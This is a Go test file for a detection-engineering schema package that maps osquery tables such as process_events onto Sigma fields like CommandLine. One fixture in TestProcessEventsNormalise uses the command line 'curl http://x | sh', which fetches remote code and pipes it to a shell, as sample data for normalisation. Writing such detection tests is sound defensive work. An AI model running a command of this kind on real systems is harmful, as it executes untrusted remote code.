package schema

import (
	"strings"
	"testing"
)

func TestOsqueryTableOf(t *testing.T) {
	cases := map[string]string{
		"SELECT * FROM process_events":                                  "process_events",
		"select pid, path from process_events where path like '/tmp%'":  "process_events",
		"SELECT u.username FROM users u JOIN groups g ON u.gid = g.gid": "",
		"SELECT 1":                   "",
		"SELECT * FROM (SELECT 1)":   "",
		"SELECT * FROM `processes`;": "processes",
	}
	for sql, want := range cases {
		if got := OsqueryTableOf(sql); got != want {
			t.Errorf("%q: got %q, want %q", sql, got, want)
		}
	}
}

func TestEventIDDeterministicAndDistinct(t *testing.T) {
	row := map[string]string{"pid": "1", "path": "/bin/sh"}
	a := EventID("h1", "q", 0, 1, "added", 0, row)
	if a != EventID("h1", "q", 0, 1, "added", 0, map[string]string{"path": "/bin/sh", "pid": "1"}) {
		t.Fatal("same input, different id")
	}
	for _, other := range []string{
		EventID("h2", "q", 0, 1, "added", 0, row),
		EventID("h1", "q2", 0, 1, "added", 0, row),
		EventID("h1", "q", 1, 1, "added", 0, row),
		EventID("h1", "q", 0, 2, "added", 0, row),
		EventID("h1", "q", 0, 1, "removed", 0, row),
		EventID("h1", "q", 0, 1, "added", 1, row),
		EventID("h1", "q", 0, 1, "added", 0, map[string]string{"pid": "2", "path": "/bin/sh"}),
		// length-prefixing keeps "ab"+"c" apart from "a"+"bc"
		EventID("h", "1q", 0, 1, "added", 0, row),
	} {
		if other == a {
			t.Fatal("different input, same id")
		}
	}
	if len(a) != 32 {
		t.Fatalf("id %q is not 32 hex characters", a)
	}
}

func TestTablesAreWellFormed(t *testing.T) {
	seen := map[string]bool{}
	for _, tb := range Tables() {
		if seen[tb.Name] {
			t.Errorf("table %s twice", tb.Name)
		}
		seen[tb.Name] = true
		cols := map[string]bool{}
		for _, c := range tb.AllColumns() {
			if cols[c.Name] {
				t.Errorf("%s: column %s twice", tb.Name, c.Name)
			}
			if c.Name != strings.ToLower(c.Name) {
				t.Errorf("%s: column %s is not lower case", tb.Name, c.Name)
			}
			cols[c.Name] = true
		}
		for field, col := range tb.Fields {
			if !cols[col] {
				t.Errorf("%s: Sigma field %s maps to unknown column %s", tb.Name, field, col)
			}
		}
		for _, src := range tb.Sources {
			vals, _ := src.Map(map[string]string{})
			for k := range vals {
				if !cols[k] {
					t.Errorf("%s: source %s sets unknown column %s", tb.Name, src.OsqueryTable, k)
				}
			}
		}
	}
}

func TestProcessEventsNormalise(t *testing.T) {
	tb, src, ok := ForOsqueryTable("process_events")
	if !ok || tb.Name != "process_creation" {
		t.Fatalf("process_events maps to %q", tb.Name)
	}
	vals, at := src.Map(map[string]string{"pid": "42", "parent": "1", "path": "/usr/bin/curl",
		"cmdline": "curl http://x | sh", "cwd": "/tmp", "uid": "1000", "time": "1700000000"})
	if vals["process_pid"] != int64(42) || vals["process_name"] != "curl" || vals["process_command_line"] != "curl http://x | sh" {
		t.Fatalf("got %v", vals)
	}
	if at.Unix() != 1700000000 {
		t.Fatalf("time %v", at)
	}
	if c, ok := SigmaField("process_creation", "CommandLine"); !ok || c != "process_command_line" {
		t.Fatalf("CommandLine -> %q", c)
	}
	if _, ok := SigmaField("process_creation", "NoSuchField"); ok {
		t.Fatal("unknown field resolved")
	}
}
